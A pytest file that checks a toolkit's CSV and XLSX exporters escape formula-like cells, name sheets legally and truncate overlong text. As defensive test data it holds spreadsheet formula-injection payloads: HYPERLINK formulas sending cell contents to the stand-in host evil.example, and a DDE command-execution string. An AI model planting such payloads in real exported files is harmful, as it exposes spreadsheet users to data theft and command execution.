"""CSV and XLSX writers: read back with pandas and openpyxl, formulas never live."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

from toolkit.export.spreadsheet import neutralise, safe_frame, sheet_name, to_csv, to_xlsx
from toolkit.workshop.views import export_views

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example")', '\'=HYPERLINK("http://evil.example")'),
        ("+44 1234", "'+44 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindented", "'\tindented"),
        ("\rcarriage", "'\rcarriage"),
        ("plain text", "plain text"),
        ("a = b", "a = b"),
        ("", ""),
        (-1.5, -1.5),
        (7, 7),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    """Is a formula-like text cell defused, and everything else left alone?"""
    assert neutralise(value) == expected


def test_safe_frame_flattens_lists_and_times():
    """Do list cells become "a; b" text and aware times naive UTC?"""
    frame = pd.DataFrame({"ids": [("a", "b")], "at": pd.to_datetime(["2026-01-01T12:00+01:00"])})
    safe = safe_frame(frame)
    assert safe.loc[0, "ids"] == "a; b"
    assert str(safe.loc[0, "at"]) == "2026-01-01 11:00:00"


def _text_cells(frame: pd.DataFrame) -> list[str]:
    return [v for col in frame.columns for v in frame[col] if isinstance(v, str)]


def test_csv_reads_back_with_every_answer_and_no_live_formula(frames):
    """Does the answers CSV hold one row per answer, hostile text intact but defused?"""
    view = export_views(frames, ("answers",))["answers"]
    back = pd.read_csv(io.BytesIO(to_csv(view)), encoding="utf-8-sig")
    assert len(back) == len(frames.answers)
    assert list(back.columns)[:3] == ["learner", "name", "scenario"]
    assert not [c for c in _text_cells(back) if c.startswith(DANGEROUS)]
    rationales = set(back["rationale"].dropna())
    assert '\'=HYPERLINK("http://evil.example/?q="&A1,"click") I need consent first' in rationales
    assert '\'=HYPERLINK("http://evil.example","me")' in set(back["name"].dropna())


def test_workbook_has_one_sheet_per_view(frames):
    """Does the XLSX open with answers, step profile, misconceptions and progress sheets?"""
    views = export_views(frames)
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(views)))
    assert book.sheetnames == ["answers", "step profile", "misconceptions", "progress"]
    for name, frame in views.items():
        assert book[name].max_row == len(frame) + 1, name
        assert book[name].freeze_panes == "A2"
    read = pd.read_excel(io.BytesIO(to_xlsx(views)), sheet_name=None)
    assert len(read["answers"]) == len(frames.answers)
    assert read["step profile"]["learner"].tolist()[-2:] == ["(cohort)", "(evidence pieces)"]


def test_workbook_never_holds_a_formula(frames):
    """Is every cell of every sheet a value, with formula-like text kept as text?"""
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(export_views(frames))))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(DANGEROUS)]
    assert "'=cmd|' /C calc'!A0" in texts  # the trainer's name on the moderated answer


def test_sheet_names_are_legal_and_unique():
    """Are Excel's forbidden characters and 31-character limit respected, clashes numbered?"""
    assert sheet_name("a/b:c*d?[e]") == "a b c d  e"
    long = "x" * 40
    first = sheet_name(long)
    assert len(first) == 31
    second = sheet_name(long, {first})
    assert len(second) == 31 and second.endswith("(2)")


def test_a_cell_too_long_for_xlsx_says_it_was_cut():
    """Is a 40,000-character text cut to the 32,767 an XLSX cell holds, saying so at its end,
    while the CSV keeps every character?"""
    text = "=" + "a" * 39_999
    frame = pd.DataFrame({"rationale": [text, "short"]})
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx({"answers": frame}))).active
    cut = sheet["A2"].value
    assert len(cut) == 32_767 and cut.startswith("'=aaa")
    assert cut.endswith(
        "[…cut here: 40,001 characters in all, more than a spreadsheet cell holds; "
        "the CSV export has the whole text]"
    )
    assert sheet["A3"].value == "short"
    back = pd.read_csv(io.BytesIO(to_csv(frame)), encoding="utf-8-sig")
    assert back.loc[0, "rationale"] == "'" + text
